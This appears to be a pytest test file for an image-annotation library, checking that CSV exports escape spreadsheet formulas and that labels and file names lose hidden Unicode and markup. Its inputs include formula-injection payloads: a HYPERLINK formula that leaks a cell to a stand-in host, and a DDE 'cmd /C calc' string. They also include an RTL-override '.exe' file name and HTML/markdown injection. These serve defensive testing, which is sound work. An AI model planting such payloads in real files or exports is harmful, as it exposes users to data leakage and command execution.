"""Names that a spreadsheet would run, that are markup, or that nobody sees."""

import pytest

from imagebase.annotation import MAX_LABEL_LENGTH, clean_label, clean_text
from imagebase.formats.manifest import _labels
from imagebase.formats.registry import FORMATS, read
from imagebase.formats.text_files import csv_cell
from imagebase.formats.trees import MemoryTree
from imagebase.images.archives import safe_name
from imagebase.ui.review.lists import _cells
from tests.formats.builders import box, export_set, record, written

FORMULAS = (
    *(
        '=HYPERLINK("http://example.com/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
    ),
    *("\tx", "'=1", "''=1", "\uff1d1", "-x"),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_cell_that_is_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["-1.5", "+2", "-1e-05", "a=b", "'a'", "", -1.5, None]
)
def test_numbers_and_other_text_stay(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("format_name", ["csv", "openimages", "classification"])
def test_names_that_are_formulas_come_back(format_name: str) -> None:
    labels = ("=cat", "'=dog", "-1", "@owl")
    boxes = [box(1, 2, 31, 42, label=label) for label in labels]
    pets = export_set(record(*boxes, name="=1+1.jpg"), labels=labels)
    files = written(pets, format_name)
    tables = [data for name, data in files.items() if name.endswith(".csv")]
    for line in b"\n".join(tables).decode().splitlines():
        assert not any(cell.startswith(("=", "@")) for cell in line.split(","))
    found = read(MemoryTree(files), format_name)
    assert found.labels.names == labels
    assert [image.name for image in found.images] in (["=1+1.jpg"], ["=1+1"])
    (image,) = found.images
    assert {one.label for one in image.annotations} in (set(labels), set())


def test_apostrophes_of_other_programs_stay() -> None:
    rows = "filename,class,xmin,ymin,xmax,ymax\na.jpg,'=cat,1,2,3,4\n"
    found = read(MemoryTree({"other.csv": rows.encode()}), "csv")
    assert found.labels.names == ("'=cat",)


HIDDEN = {
    "turned": ("photo\u202egpj.exe", "photogpj.exe"),
    "isolated": ("a\u2066b\u2069", "ab"),
    "marks": ("a\u200eb\u200f\u061cc", "abc"),
    "without room": ("c\u200ba\ufefft\u2060", "cat"),
    "escape": ("\x1b[31mred\x9b", "[31mred"),
    "nul": ("a\0b\ud800", "ab"),
    "joiners stay": ("\U0001f468\u200d\U0001f4bb", "\U0001f468\u200d\U0001f4bb"),
    "lines stay": ("a\tb\nc", "a\tb\nc"),
}


@pytest.mark.parametrize(("text", "cleaned"), HIDDEN.values(), ids=HIDDEN)
def test_text_loses_what_nobody_sees(text: str, cleaned: str) -> None:
    assert clean_text(text) == cleaned


def test_labels_and_files_are_cleaned_and_not_too_long() -> None:
    assert clean_label("ca\u202et\vx\u2028y") == "cat x y"
    assert len(clean_label("x" * 10_000)) == MAX_LABEL_LENGTH
    assert safe_name("a/\u202eb.jpg") == "a/b.jpg"
    assert len(safe_name("x" * 10_000 + ".jpg")) == 400


def test_export_report_shows_names_as_text() -> None:
    name = "![a](http://x.de/x.png)<img src=x>|`b`|https://x.de www.x.de &lt;"
    pets = export_set(record(box(1, 2, 31, 42, label=name)), labels=(name,))
    row = list(_labels(pets, FORMATS["csv"]))[-1]
    assert r"\!\[a\](http:\//x.de/x.png)\<img src=x\>\|\`b\`\|" in row
    assert r"https:\//x.de www\.x.de \&lt;" in row


def test_tables_that_a_browser_saves_show_no_formulas() -> None:
    """Streamlit's own button writes the cells of a table as they are."""
    assert _cells(["=1+1", "cat", "-1"]) == ["'=1+1", "cat", "-1"]
